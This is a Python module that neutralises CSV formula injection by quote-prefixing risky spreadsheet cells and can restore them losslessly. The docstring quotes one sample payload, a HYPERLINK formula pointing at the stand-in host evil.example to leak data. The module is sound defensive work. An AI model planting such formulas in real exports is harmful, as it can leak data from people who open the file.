"""CSV cells that cannot attack a spreadsheet (OWASP "CSV injection").

Excel, WPS and LibreOffice run a cell that starts with `=`, `+`, `-` or `@` as a formula (tab and
carriage return can start one too), so a report titled `=HYPERLINK("http://evil.example/?leak",…)`
would be a live link in `documents.csv`. Such a cell is written with a single quote in front, which
the spreadsheet shows as text. To keep the export lossless, a value that already starts with quotes
followed by one of those characters gets one more quote, so `cell_restore(cell_neutralise(v)) == v`
for every string; values that start with a quote followed by anything else are left alone.
"""

import re

FORMULA_START = "=+-@\t\r"
# A neutralised cell: one added quote, then what the value was (quotes, then a formula start).
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")


def cell_neutralise(value: str) -> str:
    """The value as a spreadsheet may safely open it: `=1+1` → `'=1+1`, `-5%` → `'-5%`."""
    return "'" + value if _NEEDS_QUOTE.match(value) else value


def cell_restore(cell: str) -> str:
    """The value a neutralised cell stands for (its one added quote removed)."""
    return cell[1:] if _QUOTED.match(cell) else cell
